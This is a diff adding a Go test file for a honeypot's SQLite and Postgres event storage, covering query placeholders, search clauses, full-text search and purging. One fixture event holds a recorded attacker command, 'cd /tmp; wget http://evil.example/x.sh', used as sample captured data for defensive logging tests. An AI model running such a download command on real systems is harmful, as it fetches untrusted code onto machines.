@@ -0,0 +1,133 @@
+//go:build sqlite
+
+package honeypot
+
+import (
+	"path/filepath"
+	"reflect"
+	"testing"
+	"time"
+
+	_ "modernc.org/sqlite"
+)
+
+func TestSQLPlaceholders(t *testing.T) {
+	query := "SELECT event FROM events WHERE port = ? AND type IN (?, ?)"
+	sqlite := &sqlStorage{dialect: sqlDialects["sqlite"]}
+	if got := sqlite.placeholders(query); got != query {
+		t.Errorf("sqlite placeholders = %q, want the query unchanged", got)
+	}
+	postgres := &sqlStorage{dialect: sqlDialects["postgres"]}
+	want := "SELECT event FROM events WHERE port = $1 AND type IN ($2, $3)"
+	if got := postgres.placeholders(query); got != want {
+		t.Errorf("postgres placeholders = %q, want %q", got, want)
+	}
+}
+
+func TestSQLWhere(t *testing.T) {
+	since := time.Unix(1700000000, 0)
+	tests := []struct {
+		name      string
+		fullText  bool
+		q         StorageQuery
+		wantWhere string
+		wantArgs  []any
+	}{
+		{name: "everything"},
+		{
+			name:      "columns",
+			q:         StorageQuery{Since: since, Types: []string{EventCredential, EventAlert}, Port: "22", SrcIP: "198.51.100.7"},
+			wantWhere: " WHERE time_ns >= ? AND type IN (?, ?) AND port = ? AND src_ip = ?",
+			wantArgs:  []any{since.UnixNano(), EventCredential, EventAlert, "22", "198.51.100.7"},
+		},
+		{
+			name:      "phrase",
+			fullText:  true,
+			q:         StorageQuery{Text: `say "hi"`},
+			wantWhere: " WHERE rowid IN (SELECT rowid FROM events_fts WHERE events_fts MATCH ?)",
+			wantArgs:  []any{`"say ""hi"""`},
+		},
+		{
+			name:      "short text",
+			fullText:  true,
+			q:         StorageQuery{Text: "a%"},
+			wantWhere: ` WHERE rowid IN (SELECT rowid FROM events_fts WHERE payload LIKE ? ESCAPE '\')`,
+			wantArgs:  []any{`%a\%%`},
+		},
+		{
+			name:      "without index",
+			q:         StorageQuery{Text: "wget"},
+			wantWhere: " WHERE " + sqlDialects["sqlite"].textMatch,
+			wantArgs:  []any{"%wget%"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			st := &sqlStorage{dialect: sqlDialects["sqlite"], fullText: tt.fullText}
+			where, args := st.where(tt.q)
+			if where != tt.wantWhere || !reflect.DeepEqual(args, tt.wantArgs) {
+				t.Errorf("where = %q %v, want %q %v", where, args, tt.wantWhere, tt.wantArgs)
+			}
+		})
+	}
+}
+
+func TestSQLiteFullText(t *testing.T) {
+	opened, err := OpenStorage("sqlite://" + filepath.Join(t.TempDir(), "events.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer opened.Close()
+	st := opened.(*sqlStorage)
+	if !st.fullText {
+		t.Fatal("the payload index was not created")
+	}
+	start := time.Unix(1700000000, 0)
+	events := []Event{
+		{Type: EventData, Time: start, SrcAddr: "198.51.100.7:40000", Port: "23", Fields: map[string]any{"data": "cd /tmp; wget http://evil.example/x.sh"}},
+		{Type: EventCredential, Time: start.Add(time.Second), SrcAddr: "203.0.113.9:40001", Port: "22", Fields: map[string]any{"username": "Admin", "password": "hunter2"}},
+		{Type: EventConnection, Time: start.Add(2 * time.Second), SrcAddr: "203.0.113.9:40002", Port: "22"},
+	}
+	for _, ev := range events {
+		if err := st.WriteEvent(ev); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	search := func(text string) []string {
+		t.Helper()
+		found, err := st.Query(StorageQuery{Text: text})
+		if err != nil {
+			t.Fatalf("searching %q: %s", text, err)
+		}
+		var types []string
+		for _, ev := range found {
+			types = append(types, ev.Type)
+		}
+		return types
+	}
+	for text, want := range map[string][]string{
+		"EVIL.example": {EventData},       // any substring, regardless of case
+		"admin":        {EventCredential}, // usernames are indexed
+		"r2":           {EventCredential}, // shorter than a trigram
+		"wget https":   nil,               // a phrase, not its words
+		"/tmp; wget":   {EventData},       // punctuation in a phrase
+		"nothing":      nil,
+	} {
+		if got := search(text); !reflect.DeepEqual(got, want) {
+			t.Errorf("search %q = %v, want %v", text, got, want)
+		}
+	}
+
+	// Purging a client drops its indexed payloads along with its events
+	if n, err := st.PurgeSource("203.0.113.9"); err != nil || n != 2 {
+		t.Fatalf("PurgeSource = %d, %v, want 2 events", n, err)
+	}
+	if got := search("hunter"); got != nil {
+		t.Errorf("search after purge = %v, want nothing", got)
+	}
+	var indexed int
+	if err := st.db.QueryRow("SELECT count(*) FROM events_fts").Scan(&indexed); err != nil || indexed != 1 {
+		t.Errorf("indexed payloads after purge = %d, %v, want 1", indexed, err)
+	}
+}